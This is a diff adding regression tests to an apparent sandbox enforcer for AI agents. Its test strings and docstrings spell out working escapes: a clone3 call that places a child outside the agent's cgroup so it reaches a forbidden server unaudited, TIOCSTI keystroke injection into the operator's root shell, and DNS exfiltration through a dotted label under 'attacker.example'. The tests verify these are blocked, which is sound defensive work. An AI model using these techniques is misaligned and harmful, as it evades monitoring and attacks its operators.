@@ -1065,3 +1065,110 @@ def test_early_answer_delivered_when_upstream_closes(enforcer, servers, tmp):
     finally:
         srv.kill()
         srv.wait()
+
+
+CLONE3 = r"""
+import ctypes, errno, os, socket, struct
+libc = ctypes.CDLL(None, use_errno=True)
+fd = os.open(CG, os.O_RDONLY | os.O_DIRECTORY)
+# struct clone_args: flags pidfd child_tid parent_tid exit_signal stack stack_size tls set_tid set_tid_size cgroup
+args = struct.pack("=11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, fd)   # CLONE_INTO_CGROUP, SIGCHLD
+buf = ctypes.create_string_buffer(args, len(args))
+libc.syscall.restype = ctypes.c_long
+pid = libc.syscall(435, buf, ctypes.c_size_t(len(args)))   # clone3
+if pid == 0:
+    try:
+        s = socket.create_connection(("127.0.0.1", OTHER), timeout=3)
+        s.sendall(b"escaped\n")
+        print("child-connected", flush=True)
+    except OSError as e:
+        print("child-" + errno.errorcode.get(e.errno, str(e.errno)), flush=True)
+    os._exit(0)
+elif pid > 0:
+    os.waitpid(pid, 0)
+    print("clone3-ran")
+else:
+    print("clone3-" + errno.errorcode[ctypes.get_errno()])
+"""
+
+TIOCSTI = r"""
+import errno, fcntl, termios
+for req in (termios.TIOCSTI, termios.TIOCSTI | (1 << 32)):   # the kernel reads 32 bits
+    try:
+        fcntl.ioctl(0, req, b"Z")
+        print("injected")
+    except OSError as e:
+        print("TIOCSTI-" + errno.errorcode[e.errno])
+"""
+
+
+def test_exec_refuses_clone3_into_cgroup_and_tiocsti(enforcer, servers):
+    """Found by review. clone3 with CLONE_INTO_CGROUP starts a child in any cgroup whose
+    cgroup.procs the caller may write, and the kernel checks the file, not the mount's
+    read-only flag: a uid-0 agent started a child in the root cgroup, which reached a
+    server no rule allows, unaudited (or in another agent's cgroup, as that agent). And
+    TIOCSTI on the terminal exec shares with the operator pushed a command into the
+    operator's root shell. exec now installs a seccomp filter: clone3 fails with ENOSYS
+    (glibc falls back to clone, which cannot choose a cgroup) and TIOCSTI with EPERM,
+    also with high bits set in the request."""
+    import pty
+    port, _ = servers.echo()
+    other, other_log = servers.echo()
+    enforcer.start(enforce_policy(port))
+    for cg in (CG2, os.path.join(CG2, "agentgate")):
+        r = enforcer.py("t-agent", f"CG = {cg!r}\nOTHER = {other}\n" + CLONE3)
+        assert r.stdout.split() == ["clone3-ENOSYS"], (cg, r.stdout + r.stderr)
+    time.sleep(0.3)
+    assert open(other_log).read() == "", "a child outside the cgroup reached the server"
+    # threads and ordinary children still work (glibc falls back to clone)
+    r = enforcer.py("t-agent", """
+    import os, threading, subprocess
+    t = threading.Thread(target=lambda: None); t.start(); t.join()
+    print(subprocess.run(["true"]).returncode, os.waitpid(os.fork() or os._exit(3), 0)[1] >> 8)
+    """)
+    assert r.stdout.split() == ["0", "3"], r.stdout + r.stderr
+    # TIOCSTI on exec's controlling terminal
+    pid, master = pty.fork()
+    if pid == 0:
+        os.execv(AG, [AG, "--state-dir", enforcer.state, "exec", "--agent", "t-agent", "--", PY, "-c", TIOCSTI])
+    out = b""
+    while True:
+        try:
+            d = os.read(master, 4096)
+        except OSError:
+            break
+        if not d:
+            break
+        out += d
+    os.waitpid(pid, 0)
+    os.close(master)
+    assert out.split() == [b"TIOCSTI-EPERM", b"TIOCSTI-EPERM"], out
+
+
+def test_dns_label_with_a_dot_is_not_under_the_allowed_suffix(enforcer, servers):
+    """Found by review: dns.allow was matched on the name's text form, where a dot
+    inside a label is escaped ("attacker\\.example"), so the labels
+    [exfil, attacker.example, test] passed "*.example.test" and went upstream: names
+    under test, not example.test, carried data out. A query name that is not a host
+    name (a label with a character other than letters, digits, '-' and '_') is refused."""
+    web, _ = servers.echo("127.0.0.2")
+    dns = servers.dnsmasq({"api.example.test": "127.0.0.2"})
+    enforcer.start(dns_policy(dns, web, allow='["*.example.test"]'))
+    r = enforcer.py("t-agent", DNS_QUERY + r"""
+def query_labels(labels, server):
+    q = struct.pack(">HHHHHH", random.randint(0, 65535), 0x0100, 1, 0, 0, 0)
+    for label in labels:
+        q += bytes([len(label)]) + label
+    q += b"\0" + struct.pack(">HH", 1, 1)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(5)
+    s.sendto(q, server)
+    return s.recvfrom(4096)[0][3] & 0xf
+srv = ("192.0.2.53", 53)
+print(query_labels([b"exfil", b"attacker.example", b"test"], srv),
+      query_labels([b"a\x00b", b"example", b"test"], srv),
+      query_labels([b"api", b"example", b"test"], srv))
+""")
+    assert r.stdout.split() == ["5", "5", "0"], r.stdout + r.stderr
+    ev = enforcer.wait_event(lambda e: e.get("class_uid") == 4003 and "attacker" in e["query"]["hostname"])
+    assert ev and ev["disposition"] == "Blocked" and "not a host name" in ev["unmapped"]["reason"], ev
